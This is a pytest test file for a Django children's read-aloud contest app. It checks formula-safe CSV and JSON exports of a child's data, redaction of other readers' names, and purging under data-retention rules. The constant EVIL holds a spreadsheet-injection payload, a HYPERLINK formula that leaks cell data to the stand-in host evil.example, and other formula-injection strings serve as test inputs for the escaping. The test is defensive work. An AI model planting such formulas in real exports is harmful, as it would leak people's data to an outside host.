"""The child's export (formula-safe, complete) and retention by configuration."""

import csv
import datetime
import io
import json

import pytest
from django.urls import reverse

from readaloud import services
from readaloud.models import Contestant, Round
from tests.readaloud.conftest import give_points
from tests.readaloud.factories import ContestantFactory, HeatFactory, RoundFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&B3,"Klik")'


def csv_rows(response):
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


@pytest.mark.parametrize(
    "name", [EVIL, "+45 1234", "-1+2", "@SUM(A1)", "\tTab", "\rCR", "Ærø-Ødegård"]
)
def test_the_child_export_csv_neutralises_formulas_and_keeps_aeoeaa(
    championship, librarian_client, name
):
    reader = ContestantFactory(championship=championship, first_name=name, book_title=name)

    response = librarian_client.get(reverse("readaloud:contestant_export", args=[reader.pk, "csv"]))

    assert response["Cache-Control"] == "no-store"
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = csv_rows(response)
    cells = {row[0]: row[1] for row in rows if len(row) == 2}
    expected = name if name[0].isalpha() else "'" + name
    assert cells["first_name"] == expected
    assert cells["book_title"] == expected


def test_the_json_export_is_never_cached(championship, librarian_client):
    reader = ContestantFactory(championship=championship, first_name=EVIL)

    response = librarian_client.get(
        reverse("readaloud:contestant_export", args=[reader.pk, "json"])
    )

    assert response["Cache-Control"] == "no-store"
    assert json.loads(response.content)["first_name"] == EVIL


def test_the_export_holds_advancements_decisions_and_notes_that_concern_the_child(
    heat, place, assign, librarian, librarian_client
):
    championship = heat.round.championship
    final = HeatFactory(round=RoundFactory(championship=championship, number=2), name="Finale")
    heat.feeds_into = final
    heat.save()
    judge = assign()
    alma, bo = place(first_name="Alma"), place(first_name="Bo", last_name="Andersen")
    give_points(judge, alma, {}, default=4)
    give_points(judge, bo, {}, default=4)
    services.reader_judgement_save(
        assignment=judge, performance=alma, note="Alma læste flot.", absent=False
    )
    services.heat_close(heat=heat, by=librarian)
    services.tie_decide(
        heat=heat,
        rank=1,
        order=[alma.pk, bo.pk],
        note="Almas tempo var bedre end Bos og Andersens.",
        by=librarian,
    )

    data = json.loads(
        librarian_client.get(
            reverse("readaloud:contestant_export", args=[alma.contestant.pk, "json"])
        ).content
    )
    rows = csv_rows(
        librarian_client.get(
            reverse("readaloud:contestant_export", args=[alma.contestant.pk, "csv"])
        )
    )

    assert [(a["to_heat"], a["kind"]) for a in data["advancements"]] == [
        (str(final), "Kvalificeret")
    ]
    [decision] = data["jury_decisions"]
    assert decision["decided_place"] == 1
    # The child's own name stays; the other reader's is blanked in its copy.
    assert decision["note"] == "Almas tempo var bedre end *** og ***."
    assert [note["note"] for note in data["judges_notes"]] == ["Alma læste flot."]
    flat = [cell for row in rows for cell in row]
    for section in ("advancements", "jury_decisions", "judges_notes", "access_log"):
        assert section in flat
    assert "Almas tempo var bedre end *** og ***." in flat
    assert "Bo" not in flat and "Andersen" not in flat


def test_the_retention_counts_the_configured_months_from_the_final(championship, settings):
    settings.READALOUD_RETENTION_MONTHS = 12
    RoundFactory(
        championship=championship, number=3, kind=Round.Kind.FINAL, date=datetime.date(2027, 5, 31)
    )

    assert championship.effective_retention_date() == datetime.date(2028, 5, 31)


def test_without_a_final_date_the_retention_counts_from_the_last_heat(championship):
    first = RoundFactory(championship=championship, number=1, date=datetime.date(2027, 3, 1))
    HeatFactory(round=first, date=datetime.date(2027, 3, 20))
    RoundFactory(championship=championship, number=2, kind=Round.Kind.FINAL, date=None)

    assert championship.effective_retention_date() == datetime.date(2027, 6, 20)


def test_without_any_date_the_retention_counts_from_the_end_of_the_year(championship):
    RoundFactory(championship=championship, number=1, date=None)

    assert championship.effective_retention_date() == datetime.date(2028, 3, 31)


def test_an_own_retention_date_wins(championship):
    championship.retention_date = datetime.date(2027, 7, 1)

    assert championship.effective_retention_date() == datetime.date(2027, 7, 1)


@pytest.fixture
def past_retention(heat, place, assign, librarian):
    """A closed heat with a scored reader and a reader who never read, past retention."""
    judge = assign()
    alma = place(first_name="Alma")
    give_points(judge, alma, {}, default=4)
    services.heat_close(heat=heat, by=librarian)
    championship = heat.round.championship
    never = ContestantFactory(championship=championship, first_name="Aldrig")
    championship.retention_date = datetime.date(2027, 6, 1)
    championship.save()
    return alma.contestant, never


def test_readers_who_never_read_are_deleted_at_the_retention_date_by_default(past_retention):
    alma, never = past_retention

    assert services.personal_data_purge(today=datetime.date(2027, 6, 2)) == 2

    assert not Contestant.objects.filter(pk=never.pk).exists()
    alma.refresh_from_db()
    assert alma.is_anonymised()
    assert services.personal_data_purge(today=datetime.date(2027, 6, 3)) == 0


def test_readers_who_never_read_can_be_anonymised_instead(past_retention, settings):
    settings.READALOUD_NEVER_READ = "anonymise"
    _alma, never = past_retention

    services.personal_data_purge(today=datetime.date(2027, 6, 2))

    never.refresh_from_db()
    assert never.is_anonymised()
    assert never.first_name != "Aldrig"


def test_a_placed_reader_who_never_read_is_deleted_with_its_placement(
    heat, place, assign, librarian
):
    judge = assign()
    alma = place(first_name="Alma")
    placed = place(first_name="Aldrig")
    give_points(judge, alma, {}, default=4)
    championship = heat.round.championship
    championship.retention_date = datetime.date(2000, 1, 1)
    championship.save()

    services.personal_data_purge(today=datetime.date(2027, 6, 2))

    assert not Contestant.objects.filter(pk=placed.contestant_id).exists()
    assert heat.performances.count() == 1


@pytest.mark.parametrize(
    ("name", "value"),
    [("READALOUD_NEVER_READ", "slet"), ("READALOUD_RETENTION_MONTHS", "tre")],
)
def test_a_wrong_retention_setting_fails_loudly(monkeypatch, name, value):
    from django.core.exceptions import ImproperlyConfigured

    from config.env import env_choice, env_int

    monkeypatch.setenv(name, value)
    with pytest.raises(ImproperlyConfigured, match=name):
        if name == "READALOUD_NEVER_READ":
            env_choice(name, "delete", ["delete", "anonymise"])
        else:
            env_int(name, 3)
